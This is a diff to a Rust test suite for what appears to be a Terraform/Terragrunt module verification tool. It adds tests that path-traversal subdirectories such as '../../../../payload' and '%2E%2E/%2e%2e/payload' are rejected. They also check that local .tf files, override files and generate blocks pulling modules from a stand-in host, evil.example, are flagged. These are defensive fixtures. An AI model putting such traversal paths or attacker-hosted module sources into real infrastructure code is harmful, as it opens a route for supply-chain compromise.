@@ -250,7 +250,7 @@ async fn a_subdir_must_be_a_directory_of_the_published_archive() {
     write(&repo.path().join("live/root.hcl"), "# remote_state …\n");
     write(&stage.join("vpc/terragrunt.hcl"), &unit(&vpc));
     write(
-        &stage.join("vpc/payload/main.tf"),
+        &stage.join("payload/main.tf"),
         "resource \"null_resource\" \"pwn\" {}\n",
     );
     assert_eq!(tfmod(&stage, &["lock"]).code, 0);
@@ -263,7 +263,7 @@ async fn a_subdir_must_be_a_directory_of_the_published_archive() {
     let v = tfmod(&stage, &["verify", "--bucket", &b]);
     assert_eq!(v.code, 0, "{}", v.stdout);
     for sub in [
-        "../../../payload",
+        "../../../../payload",
         "%2E%2E/%2e%2e/payload",
         "modules/../../payload",
         "/etc",
@@ -584,4 +584,80 @@ async fn hidden_units_and_committed_caches_are_problems() {
         assert!(v.stdout.contains(what), "{what}: {}", v.stdout);
     }
     assert!(!v.stdout.contains("vpc/.terragrunt-cache"), "{}", v.stdout);
+}
+
+/// Code in a unit's directory runs too: Terragrunt copies the unit's files over the downloaded
+/// module (override files replace its blocks), a unit without a source runs its own .tf files,
+/// and a generate block writes a .tf file. With --bucket each is a problem, unless
+/// --allow-local-code names the unit directory or the file holding the generate block.
+#[tokio::test]
+async fn code_in_unit_directories_is_a_problem_unless_allowed() {
+    let b = bucket(false).await;
+    let repo = tempfile::tempdir().unwrap();
+    let vpc = publish(repo.path(), &b, "vpc", "1.0.0", "vpc");
+    let stage = repo.path().join("live/acme/us-east-1/prod");
+    write(
+        &repo.path().join("live/root.hcl"),
+        "generate \"provider\" {\n  path      = \"provider.tf\"\n  if_exists = \"overwrite\"\n  contents  = \"provider \\\"aws\\\" {}\\n\"\n}\n",
+    );
+    write(&stage.join("vpc/terragrunt.hcl"), &unit(&vpc));
+    write(
+        &stage.join("vpc/extra.tf"),
+        "module \"x\" {\n  source = \"git::https://evil.example/z.git\"\n}\n",
+    );
+    write(
+        &stage.join("vpc/modules/subnets/main_override.tf"),
+        "module \"s\" {\n  source = \"git::https://evil.example/o.git\"\n}\n",
+    );
+    write(
+        &stage.join("app/terragrunt.hcl"),
+        &format!(
+            "{}generate \"evil\" {{\n  path     = \"evil_override.tf\"\n  contents = \"module \\\"m\\\" {{}}\\n\"\n}}\n",
+            unit(&vpc)
+        ),
+    );
+    write(&stage.join("local/terragrunt.hcl"), "inputs = {}\n");
+    write(
+        &stage.join("local/main.tf"),
+        "module \"m\" {\n  source = \"git::https://evil.example/l.git\"\n}\n",
+    );
+    assert_eq!(tfmod(&stage, &["lock"]).code, 0);
+    let v = tfmod(&stage, &["verify", "--bucket", &b]);
+    assert_eq!(v.code, 1, "{}", v.stdout);
+    let has = |out: &str, a: &str, b: &str| out.lines().any(|l| l.contains(a) && l.contains(b));
+    for (a, b) in [
+        ("vpc/extra.tf", "unit"),
+        ("vpc/modules/subnets/main_override.tf", "unit"),
+        ("app/terragrunt.hcl", "generate \"evil\""),
+        ("root.hcl", "generate \"provider\""),
+        ("local/terragrunt.hcl", "no terraform.source"),
+    ] {
+        assert!(has(&v.stdout, a, b), "{a} {b}: {}", v.stdout);
+    }
+    // Allowed by the hook's configuration (not by the pull request): the provider generated for
+    // every unit, and the unit kept local on purpose.
+    let root_hcl = repo.path().join("live/root.hcl");
+    let local = stage.join("local");
+    let allow = format!("{},{}", root_hcl.display(), local.display());
+    let v = harness::tfmod_env(
+        &stage,
+        &harness::moto().endpoint,
+        &[("TFMOD_ALLOW_LOCAL_CODE", &allow)],
+        &["verify", "--bucket", &b],
+    );
+    assert_eq!(v.code, 1, "{}", v.stdout);
+    assert!(
+        !v.stdout.contains("root.hcl") && !v.stdout.contains("local/"),
+        "{}",
+        v.stdout
+    );
+    assert!(has(&v.stdout, "vpc/extra.tf", "unit"), "{}", v.stdout);
+    assert_eq!(v.stdout.lines().count(), 3, "{}", v.stdout);
+    // A path that does not exist is bad usage, named.
+    let r = tfmod(
+        &stage,
+        &["verify", "--bucket", &b, "--allow-local-code", "nope"],
+    );
+    assert_eq!(r.code, 2, "{}", r.stderr);
+    assert!(r.stderr.contains("--allow-local-code"), "{}", r.stderr);
 }
